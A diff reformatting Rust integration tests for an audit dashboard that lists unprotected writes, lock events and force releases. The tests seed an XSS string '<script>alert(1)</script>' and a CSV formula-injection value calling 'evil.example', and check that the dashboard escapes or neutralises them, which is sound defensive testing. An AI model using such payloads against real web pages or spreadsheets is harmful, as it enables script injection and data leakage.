@@ -7,8 +7,8 @@ use axum::Router;
 use deadpool_postgres::Pool;
 use http::StatusCode;
 use palisade_audit::{
-    insert_force_release, insert_lock_events, insert_writes, ClusterId, Finding, ForceRelease, Labels, LockEvent,
-    LockEventKind, Outcome, WriteRecord,
+    insert_force_release, insert_lock_events, insert_writes, ClusterId, Finding, ForceRelease,
+    Labels, LockEvent, LockEventKind, Outcome, WriteRecord,
 };
 use palisade_fence::{FencingToken, Revision};
 use serde_json::Value;
@@ -35,21 +35,84 @@ pub(crate) async fn seed(pool: &Pool, now: SystemTime) -> Vec<WriteRecord> {
     // (hours ago, resource, service, namespace, class, caller)
     type Spec<'a> = (u64, &'a str, &'a str, &'a str, &'a str, Option<&'a str>);
     let specs: [Spec<'_>; 12] = [
-        (0, "/legacy/report", "reports", "shop", "legacy", Some("spiffe://td/batch")),
-        (0, EVIL, "reports", "shop", "legacy", Some("spiffe://td/batch")),
+        (
+            0,
+            "/legacy/report",
+            "reports",
+            "shop",
+            "legacy",
+            Some("spiffe://td/batch"),
+        ),
+        (
+            0,
+            EVIL,
+            "reports",
+            "shop",
+            "legacy",
+            Some("spiffe://td/batch"),
+        ),
         (1, "/legacy/report", "reports", "shop", "legacy", None),
-        (1, "/legacy/ledger", "billing", "money", "ledger", Some("spiffe://td/billing")),
-        (1, "/legacy/ledger", "billing", "money", "ledger", Some("spiffe://td/billing")),
-        (2, "/legacy/ledger", "billing", "money", "ledger", Some("spiffe://td/cron")),
+        (
+            1,
+            "/legacy/ledger",
+            "billing",
+            "money",
+            "ledger",
+            Some("spiffe://td/billing"),
+        ),
+        (
+            1,
+            "/legacy/ledger",
+            "billing",
+            "money",
+            "ledger",
+            Some("spiffe://td/billing"),
+        ),
+        (
+            2,
+            "/legacy/ledger",
+            "billing",
+            "money",
+            "ledger",
+            Some("spiffe://td/cron"),
+        ),
         (3, EVIL, "reports", "shop", "legacy", None),
-        (3, "/legacy/report", "reports", "shop", "legacy", Some("spiffe://td/batch")),
-        (5, "/legacy/report", "reports", "shop", "legacy", Some("spiffe://td/batch")),
-        (5, "/legacy/ledger", "billing", "money", "ledger", Some("spiffe://td/billing")),
+        (
+            3,
+            "/legacy/report",
+            "reports",
+            "shop",
+            "legacy",
+            Some("spiffe://td/batch"),
+        ),
+        (
+            5,
+            "/legacy/report",
+            "reports",
+            "shop",
+            "legacy",
+            Some("spiffe://td/batch"),
+        ),
+        (
+            5,
+            "/legacy/ledger",
+            "billing",
+            "money",
+            "ledger",
+            Some("spiffe://td/billing"),
+        ),
         (5, "/legacy/ledger", "billing", "money", "ledger", None),
         (30, "/legacy/old", "reports", "shop", "legacy", None),
     ];
     for (i, (h, resource, service, ns, class, caller)) in specs.iter().enumerate() {
-        let mut r = WriteRecord::new(*service, *resource, "PUT", Outcome::Unprotected, Finding::MissingToken, hours_ago(now, *h, 60 + i as u64));
+        let mut r = WriteRecord::new(
+            *service,
+            *resource,
+            "PUT",
+            Outcome::Unprotected,
+            Finding::MissingToken,
+            hours_ago(now, *h, 60 + i as u64),
+        );
         r.labels = Labels::new(*ns, *class);
         r.caller = caller.map(str::to_owned);
         if i == 3 {
@@ -61,42 +124,104 @@ pub(crate) async fn seed(pool: &Pool, now: SystemTime) -> Vec<WriteRecord> {
     }
     let mut others = Vec::new();
     for i in 0..5 {
-        let mut a = WriteRecord::new("reports", EVIL, "PUT", Outcome::Admitted, Finding::Current, hours_ago(now, 0, 10 + i));
+        let mut a = WriteRecord::new(
+            "reports",
+            EVIL,
+            "PUT",
+            Outcome::Admitted,
+            Finding::Current,
+            hours_ago(now, 0, 10 + i),
+        );
         a.token = Some(tok(100 + i));
         others.push(a);
-        others.push(WriteRecord::new("reports", "/legacy/report", "PUT", Outcome::Rejected, Finding::MissingToken, hours_ago(now, 0, 20 + i)));
+        others.push(WriteRecord::new(
+            "reports",
+            "/legacy/report",
+            "PUT",
+            Outcome::Rejected,
+            Finding::MissingToken,
+            hours_ago(now, 0, 20 + i),
+        ));
     }
     others.push(WriteRecord::dropped("reports", 3));
     insert_writes(&**client, &unprotected).await.unwrap();
     insert_writes(&**client, &others).await.unwrap();
 
     let cluster = ClusterId(0x8e9e_05c5_2164_694d);
-    let ev = |rev: u64, seq: u32, kind: LockEventKind, holder: &str, token: Option<FencingToken>| {
-        let mut e = LockEvent::new(cluster, Revision::new(rev), kind, KEY);
-        e.seq = seq;
-        e.spiffe_id = Some(holder.to_owned());
-        e.token = token;
-        e.namespace = Some("shop".into());
-        e.class = Some("orders".into());
-        e
-    };
+    let ev =
+        |rev: u64, seq: u32, kind: LockEventKind, holder: &str, token: Option<FencingToken>| {
+            let mut e = LockEvent::new(cluster, Revision::new(rev), kind, KEY);
+            e.seq = seq;
+            e.spiffe_id = Some(holder.to_owned());
+            e.token = token;
+            e.namespace = Some("shop".into());
+            e.class = Some("orders".into());
+            e
+        };
     let events = [
-        ev(100, 0, LockEventKind::Grant, "spiffe://td/worker-a", Some(tok(100))),
-        ev(140, 0, LockEventKind::Release, "spiffe://td/worker-a", Some(tok(100))),
-        ev(150, 0, LockEventKind::Grant, "spiffe://td/worker-b", Some(tok(150))),
-        ev(190, 1, LockEventKind::Expire, "spiffe://td/worker-b", Some(tok(150))),
+        ev(
+            100,
+            0,
+            LockEventKind::Grant,
+            "spiffe://td/worker-a",
+            Some(tok(100)),
+        ),
+        ev(
+            140,
+            0,
+            LockEventKind::Release,
+            "spiffe://td/worker-a",
+            Some(tok(100)),
+        ),
+        ev(
+            150,
+            0,
+            LockEventKind::Grant,
+            "spiffe://td/worker-b",
+            Some(tok(150)),
+        ),
+        ev(
+            190,
+            1,
+            LockEventKind::Expire,
+            "spiffe://td/worker-b",
+            Some(tok(150)),
+        ),
         ev(200, 0, LockEventKind::Grant, EVIL, Some(tok(200))),
         ev(260, 0, LockEventKind::Force, EVIL, Some(tok(200))),
     ];
     insert_lock_events(&**client, &events).await.unwrap();
-    insert_lock_events(&**client, &[LockEvent::gap(cluster, Revision::new(300), Revision::new(420))]).await.unwrap();
+    insert_lock_events(
+        &**client,
+        &[LockEvent::gap(
+            cluster,
+            Revision::new(300),
+            Revision::new(420),
+        )],
+    )
+    .await
+    .unwrap();
     let force = ForceRelease::new(
-        "fr-7f3a", cluster, Revision::new(260), KEY, "spiffe://td/oncall-alice", "spiffe://td/lead-bob",
-        format!("holder wedged in GC pause {EVIL}"), true, hours_ago(now, 2, 0),
+        "fr-7f3a",
+        cluster,
+        Revision::new(260),
+        KEY,
+        "spiffe://td/oncall-alice",
+        "spiffe://td/lead-bob",
+        format!("holder wedged in GC pause {EVIL}"),
+        true,
+        hours_ago(now, 2, 0),
     );
     insert_force_release(&**client, &force).await.unwrap();
     let other = ForceRelease::new(
-        "fr-0001", cluster, Revision::new(90), "/palisade/shop/carts/9", "carol", "dave", "stuck batch", false,
+        "fr-0001",
+        cluster,
+        Revision::new(90),
+        "/palisade/shop/carts/9",
+        "carol",
+        "dave",
+        "stuck batch",
+        false,
         hours_ago(now, 20, 0),
     );
     insert_force_release(&**client, &other).await.unwrap();
@@ -115,7 +240,12 @@ fn json(body: &str) -> Value {
 }
 
 fn resources(page: &Value) -> Vec<String> {
-    page["rows"].as_array().unwrap().iter().map(|r| r["resource"].as_str().unwrap().to_owned()).collect()
+    page["rows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["resource"].as_str().unwrap().to_owned())
+        .collect()
 }
 
 #[tokio::test]
@@ -123,17 +253,37 @@ async fn unprotected_writes_newest_first_filtered_and_paged() {
     let (_db, app, rows) = seeded().await;
     let all = json(&get(&app, "/api/unprotected").await.body);
     let expected: Vec<String> = rows.iter().map(|r| r.resource.clone().unwrap()).collect();
-    assert_eq!(resources(&all), expected, "every unprotected row, newest first, nothing else");
+    assert_eq!(
+        resources(&all),
+        expected,
+        "every unprotected row, newest first, nothing else"
+    );
     assert_eq!(all["next"], Value::Null);
     let first = &all["rows"][0];
-    assert_eq!(first["at"].as_str().unwrap(), humantime::format_rfc3339_seconds(rows[0].at).to_string());
-    let stale = all["rows"].as_array().unwrap().iter().find(|r| r["finding"] == "stale").unwrap();
-    assert_eq!((stale["token"].as_str(), stale["highest"].as_str()), (Some(&*tok(7).to_string()), Some(&*tok(9).to_string())));
+    assert_eq!(
+        first["at"].as_str().unwrap(),
+        humantime::format_rfc3339_seconds(rows[0].at).to_string()
+    );
+    let stale = all["rows"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["finding"] == "stale")
+        .unwrap();
+    assert_eq!(
+        (stale["token"].as_str(), stale["highest"].as_str()),
+        (Some(&*tok(7).to_string()), Some(&*tok(9).to_string()))
+    );
 
     let n = |q: &str| {
         let app = app.clone();
         let q = q.to_owned();
-        async move { json(&get(&app, &format!("/api/unprotected?{q}")).await.body)["rows"].as_array().unwrap().len() }
+        async move {
+            json(&get(&app, &format!("/api/unprotected?{q}")).await.body)["rows"]
+                .as_array()
+                .unwrap()
+                .len()
+        }
     };
     assert_eq!(n("service=billing").await, 5);
     assert_eq!(n("namespace=money&class=ledger").await, 5);
@@ -141,7 +291,8 @@ async fn unprotected_writes_newest_first_filtered_and_paged() {
     assert_eq!(n("resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await, 2);
     assert_eq!(n("caller=spiffe%3A%2F%2Ftd%2Fbatch").await, 4);
     assert_eq!(n("service=").await, 12, "an empty filter means any");
-    let from = humantime::format_rfc3339_seconds(SystemTime::now() - Duration::from_secs(2 * 3600 + 1800));
+    let from =
+        humantime::format_rfc3339_seconds(SystemTime::now() - Duration::from_secs(2 * 3600 + 1800));
     assert_eq!(n(&format!("from={from}")).await, 6, "the last 2.5 hours");
     assert_eq!(n(&format!("to={from}")).await, 6, "before that");
 
@@ -161,7 +312,10 @@ async fn unprotected_writes_newest_first_filtered_and_paged() {
     let bad = get(&app, "/api/unprotected?from=yesterday").await;
     assert_eq!(bad.status, StatusCode::BAD_REQUEST);
     assert!(bad.body.contains("from"), "{}", bad.body);
-    assert_eq!(get(&app, "/api/unprotected?before=nope").await.status, StatusCode::BAD_REQUEST);
+    assert_eq!(
+        get(&app, "/api/unprotected?before=nope").await.status,
+        StatusCode::BAD_REQUEST
+    );
 }
 
 #[tokio::test]
@@ -171,14 +325,26 @@ async fn csv_export_holds_exactly_the_filtered_rows() {
     assert_eq!(r.status, StatusCode::OK);
     assert_eq!(r.content_type, "text/csv; charset=utf-8");
     let mut reader = csv::Reader::from_reader(r.body.as_bytes());
-    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
+    let header: Vec<String> = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_owned)
+        .collect();
     assert_eq!(&header[..4], ["at", "service", "resource", "method"]);
-    let got: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
+    let got: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
     let expected: Vec<&WriteRecord> = rows.iter().filter(|r| r.service == "reports").collect();
     assert_eq!(got.len(), expected.len());
     for (line, r) in got.iter().zip(&expected) {
         assert_eq!(line[0], humantime::format_rfc3339_seconds(r.at).to_string());
-        assert_eq!(line[2], *r.resource.as_ref().unwrap(), "the resource verbatim, script tags and all");
+        assert_eq!(
+            line[2],
+            *r.resource.as_ref().unwrap(),
+            "the resource verbatim, script tags and all"
+        );
         assert_eq!(line[8], r.caller.clone().unwrap_or_default());
         assert_eq!(line[11], r.id.to_string());
     }
@@ -189,9 +355,18 @@ async fn csv_export_holds_exactly_the_filtered_rows() {
 async fn csv_cells_that_would_be_formulas_are_inert_and_json_stays_verbatim() {
     const FORMULA: &str = "=HYPERLINK(\"http://evil.example/\"&A1)";
     let (_db, pool) = migrated_db().await;
-    let mut r = WriteRecord::new("-svc", FORMULA, "PUT", Outcome::Unprotected, Finding::MissingToken, SystemTime::now());
+    let mut r = WriteRecord::new(
+        "-svc",
+        FORMULA,
+        "PUT",
+        Outcome::Unprotected,
+        Finding::MissingToken,
+        SystemTime::now(),
+    );
     r.caller = Some("@caller".into());
-    insert_writes(&**pool.get().await.unwrap(), &[r]).await.unwrap();
+    insert_writes(&**pool.get().await.unwrap(), &[r])
+        .await
+        .unwrap();
     let app = palisade_audit::dashboard::router(pool);
 
     let csv_body = get(&app, "/unprotected.csv").await.body;
@@ -202,16 +377,33 @@ async fn csv_cells_that_would_be_formulas_are_inert_and_json_stays_verbatim() {
     assert_eq!(&rows[0][2], format!("'{FORMULA}"));
     assert_eq!(&rows[0][8], "'@caller");
     let api = json(&get(&app, "/api/unprotected").await.body);
-    assert_eq!(resources(&api), [FORMULA], "the JSON API is not a spreadsheet");
+    assert_eq!(
+        resources(&api),
+        [FORMULA],
+        "the JSON API is not a spreadsheet"
+    );
 }
 
 #[tokio::test]
 async fn the_hourly_chart_counts_each_hour() {
     let (_db, app, rows) = seeded().await;
     let hourly = json(&get(&app, "/api/unprotected/hourly").await.body);
-    let counts: Vec<i64> = hourly["hours"].as_array().unwrap().iter().map(|h| h["count"].as_i64().unwrap()).collect();
-    assert_eq!(counts.len(), 25, "the last 24 hours, partial hours at both ends");
-    assert_eq!(counts.iter().sum::<i64>(), 11, "all but the one 30 hours ago");
+    let counts: Vec<i64> = hourly["hours"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|h| h["count"].as_i64().unwrap())
+        .collect();
+    assert_eq!(
+        counts.len(),
+        25,
+        "the last 24 hours, partial hours at both ends"
+    );
+    assert_eq!(
+        counts.iter().sum::<i64>(),
+        11,
+        "all but the one 30 hours ago"
+    );
     // Each bar counts the seeded rows of its hour.
     for h in hourly["hours"].as_array().unwrap() {
         let start = humantime::parse_rfc3339(h["hour"].as_str().unwrap()).unwrap();
@@ -222,9 +414,15 @@ async fn the_hourly_chart_counts_each_hour() {
     assert!(counts.iter().filter(|n| **n > 0).count() >= 4);
     let svg = get(&app, "/unprotected/chart.svg?service=billing").await;
     assert_eq!(svg.content_type, "image/svg+xml; charset=utf-8");
-    assert!(svg.body.starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""));
+    assert!(svg
+        .body
+        .starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""));
     assert_eq!(svg.body.matches("class=\"bar\"").count(), 25);
-    assert!(svg.body.contains("service billing (5 in 25 h)"), "{}", svg.body);
+    assert!(
+        svg.body.contains("service billing (5 in 25 h)"),
+        "{}",
+        svg.body
+    );
 }
 
 /// Every filter narrows the hourly counts exactly as it narrows the rows, over windows
@@ -242,23 +440,45 @@ async fn every_filter_narrows_the_hourly_counts_as_it_narrows_the_rows() {
     let s = |v: &'static str| Some(v.to_owned());
     let filters: Vec<(&str, Pred)> = vec![
         ("", Box::new(|_| true)),
-        ("namespace=shop", Box::new(move |r| r.labels.namespace == s("shop"))),
-        ("class=ledger", Box::new(move |r| r.labels.class == s("ledger"))),
+        (
+            "namespace=shop",
+            Box::new(move |r| r.labels.namespace == s("shop")),
+        ),
+        (
+            "class=ledger",
+            Box::new(move |r| r.labels.class == s("ledger")),
+        ),
         ("service=billing", Box::new(move |r| r.service == "billing")),
-        ("caller=spiffe%3A%2F%2Ftd%2Fbatch", Box::new(move |r| r.caller == s("spiffe://td/batch"))),
-        ("resource=%2Flegacy%2Fledger", Box::new(move |r| r.resource == s("/legacy/ledger"))),
-        ("namespace=money&caller=spiffe%3A%2F%2Ftd%2Fbilling", Box::new(move |r| {
-            r.labels.namespace == s("money") && r.caller == s("spiffe://td/billing")
-        })),
-        ("service=reports&resource=%2Flegacy%2Freport", Box::new(move |r| {
-            r.service == "reports" && r.resource == s("/legacy/report")
-        })),
+        (
+            "caller=spiffe%3A%2F%2Ftd%2Fbatch",
+            Box::new(move |r| r.caller == s("spiffe://td/batch")),
+        ),
+        (
+            "resource=%2Flegacy%2Fledger",
+            Box::new(move |r| r.resource == s("/legacy/ledger")),
+        ),
+        (
+            "namespace=money&caller=spiffe%3A%2F%2Ftd%2Fbilling",
+            Box::new(move |r| {
+                r.labels.namespace == s("money") && r.caller == s("spiffe://td/billing")
+            }),
+        ),
+        (
+            "service=reports&resource=%2Flegacy%2Freport",
+            Box::new(move |r| r.service == "reports" && r.resource == s("/legacy/report")),
+        ),
     ];
     let windows = [
         (None, None),
-        (Some(now - Duration::from_secs(5 * 3600 + 1234)), Some(now - Duration::from_secs(1800))),
+        (
+            Some(now - Duration::from_secs(5 * 3600 + 1234)),
+            Some(now - Duration::from_secs(1800)),
+        ),
         (Some(now - Duration::from_secs(40 * 3600)), None),
-        (Some(now - Duration::from_secs(3600 + 600)), Some(now - Duration::from_secs(3600 - 600))),
+        (
+            Some(now - Duration::from_secs(3600 + 600)),
+            Some(now - Duration::from_secs(3600 - 600)),
+        ),
     ];
     let mut totals = Vec::new();
     for (from, to) in windows {
@@ -273,7 +493,9 @@ async fn every_filter_narrows_the_hourly_counts_as_it_narrows_the_rows() {
             let hourly = json(&get(&app, &uri).await.body);
             // The window as the server saw it: whole seconds, `to` by default the time of the request.
             let lo = from.map(|t| humantime::parse_rfc3339(&fmt(t)).unwrap());
-            let hi = to.map(|t| humantime::parse_rfc3339(&fmt(t)).unwrap()).unwrap_or_else(SystemTime::now);
+            let hi = to
+                .map(|t| humantime::parse_rfc3339(&fmt(t)).unwrap())
+                .unwrap_or_else(SystemTime::now);
             let lo = lo.unwrap_or(hi - Duration::from_secs(24 * 3600));
             let mut total = 0;
             for h in hourly["hours"].as_array().unwrap() {
@@ -283,7 +505,12 @@ async fn every_filter_narrows_the_hourly_counts_as_it_narrows_the_rows() {
                     .iter()
                     .filter(|r| r.at >= start.max(lo) && r.at < end.min(hi) && pred(r))
                     .count() as i64;
-                assert_eq!(h["count"].as_i64().unwrap(), expected, "{uri}: hour {}", h["hour"]);
+                assert_eq!(
+                    h["count"].as_i64().unwrap(),
+                    expected,
+                    "{uri}: hour {}",
+                    h["hour"]
+                );
                 total += expected;
             }
             totals.push((uri, total));
@@ -305,25 +532,56 @@ async fn script_in_a_resource_is_escaped_in_html_and_svg_and_verbatim_in_json() 
     assert_eq!(page.content_type, "text/html; charset=utf-8");
     assert!(!page.body.contains(EVIL));
     assert!(!page.body.contains("<script"), "no script element at all");
-    assert_eq!(page.body.matches("&lt;script&gt;alert(1)&lt;/script&gt;").count(), 2);
+    assert_eq!(
+        page.body
+            .matches("&lt;script&gt;alert(1)&lt;/script&gt;")
+            .count(),
+        2
+    );
     // Filtered by that resource: the value goes back into the form field and the chart
     // caption, escaped both times.
-    let filtered = get(&app, "/unprotected?resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await;
+    let filtered = get(
+        &app,
+        "/unprotected?resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    )
+    .await;
     assert!(!filtered.body.contains("<script"));
-    assert!(filtered.body.contains("value=\"&lt;script&gt;alert(1)&lt;/script&gt;\""));
-    assert!(filtered.body.contains("resource &lt;script&gt;alert(1)&lt;/script&gt;"));
+    assert!(filtered
+        .body
+        .contains("value=\"&lt;script&gt;alert(1)&lt;/script&gt;\""));
+    assert!(filtered
+        .body
+        .contains("resource &lt;script&gt;alert(1)&lt;/script&gt;"));
     assert!(filtered.body.contains("Export CSV"));
-    assert!(filtered.body.contains("href=\"/unprotected.csv?resource=%3Cscript%3Ealert%281%29%3C%2Fscript%3E\""));
-    let svg = get(&app, "/unprotected/chart.svg?resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await;
+    assert!(filtered
+        .body
+        .contains("href=\"/unprotected.csv?resource=%3Cscript%3Ealert%281%29%3C%2Fscript%3E\""));
+    let svg = get(
+        &app,
+        "/unprotected/chart.svg?resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    )
+    .await;
     assert!(!svg.body.contains("<script"));
-    assert!(svg.body.contains("resource &lt;script&gt;alert(1)&lt;/script&gt; (2 in 25 h)"));
-    let api = json(&get(&app, "/api/unprotected?resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await.body);
+    assert!(svg
+        .body
+        .contains("resource &lt;script&gt;alert(1)&lt;/script&gt; (2 in 25 h)"));
+    let api = json(
+        &get(
+            &app,
+            "/api/unprotected?resource=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        )
+        .await
+        .body,
+    );
     assert_eq!(resources(&api), [EVIL, EVIL]);
     // The holder and the reason on the lock pages.
     for uri in [format!("/locks?key={}", KEY), "/force-releases".to_owned()] {
         let page = get(&app, &uri).await;
         assert!(!page.body.contains("<script"), "{uri}");
-        assert!(page.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{uri}");
+        assert!(
+            page.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
+            "{uri}"
+        );
     }
 }
 
@@ -335,7 +593,13 @@ async fn lock_timeline_and_force_releases_show_tokens_and_both_people() {
         .as_array()
         .unwrap()
         .iter()
-        .map(|e| (e["revision"].as_u64().unwrap(), e["type"].as_str().unwrap(), e["token"].as_str()))
+        .map(|e| {
+            (
+                e["revision"].as_u64().unwrap(),
+                e["type"].as_str().unwrap(),
+                e["token"].as_str(),
+            )
+        })
         .collect();
     let t = |r| tok(r).to_string();
     let (t100, t150, t200) = (t(100), t(150), t(200));
@@ -357,10 +621,19 @@ async fn lock_timeline_and_force_releases_show_tokens_and_both_people() {
     assert_eq!(force["cluster_id"], "8e9e05c52164694d");
     assert_eq!(timeline["events"][1]["force"], Value::Null);
     let page = get(&app, &format!("/locks?key={KEY}")).await.body;
-    for needle in ["kind-force", "kind-expire", "kind-release", &t200, "spiffe://td/oncall-alice / spiffe://td/lead-bob"] {
+    for needle in [
+        "kind-force",
+        "kind-expire",
+        "kind-release",
+        &t200,
+        "spiffe://td/oncall-alice / spiffe://td/lead-bob",
+    ] {
         assert!(page.contains(needle), "{needle}");
     }
-    assert!(get(&app, "/locks?key=/nothing").await.body.contains("No events for"));
+    assert!(get(&app, "/locks?key=/nothing")
+        .await
+        .body
+        .contains("No events for"));
 
     let forces = json(&get(&app, "/api/force-releases").await.body);
     let list: Vec<(&str, &str, &str, bool)> = forces["force_releases"]
@@ -368,18 +641,45 @@ async fn lock_timeline_and_force_releases_show_tokens_and_both_people() {
         .unwrap()
         .iter()
         .map(|f| {
-            (f["request_id"].as_str().unwrap(), f["requester"].as_str().unwrap(), f["approver"].as_str().unwrap(), f["class_was_fenced"].as_bool().unwrap())
+            (
+                f["request_id"].as_str().unwrap(),
+                f["requester"].as_str().unwrap(),
+                f["approver"].as_str().unwrap(),
+                f["class_was_fenced"].as_bool().unwrap(),
+            )
         })
         .collect();
-    assert_eq!(list, [("fr-7f3a", "spiffe://td/oncall-alice", "spiffe://td/lead-bob", true), ("fr-0001", "carol", "dave", false)]);
-    assert_eq!(forces["force_releases"][0]["reason"], format!("holder wedged in GC pause {EVIL}"));
+    assert_eq!(
+        list,
+        [
+            (
+                "fr-7f3a",
+                "spiffe://td/oncall-alice",
+                "spiffe://td/lead-bob",
+                true
+            ),
+            ("fr-0001", "carol", "dave", false)
+        ]
+    );
+    assert_eq!(
+        forces["force_releases"][0]["reason"],
+        format!("holder wedged in GC pause {EVIL}")
+    );
     let page = get(&app, "/force-releases").await.body;
-    assert!(page.contains("stuck batch") && page.contains("no (advisory)") && page.contains("href=\"/locks?key=%2Fpalisade%2Fshop%2Forders%2F42\""));
+    assert!(
+        page.contains("stuck batch")
+            && page.contains("no (advisory)")
+            && page.contains("href=\"/locks?key=%2Fpalisade%2Fshop%2Forders%2F42\"")
+    );
 }
 
 #[tokio::test]
 async fn an_unreachable_database_is_a_503_not_a_hang() {
-    let pool = palisade_audit::pool("host=127.0.0.1 port=1 user=postgres dbname=none connect_timeout=2", 1).unwrap();
+    let pool = palisade_audit::pool(
+        "host=127.0.0.1 port=1 user=postgres dbname=none connect_timeout=2",
+        1,
+    )
+    .unwrap();
     let app = palisade_audit::dashboard::router(pool);
     let r = get(&app, "/api/unprotected").await;
     assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE, "{}", r.body);
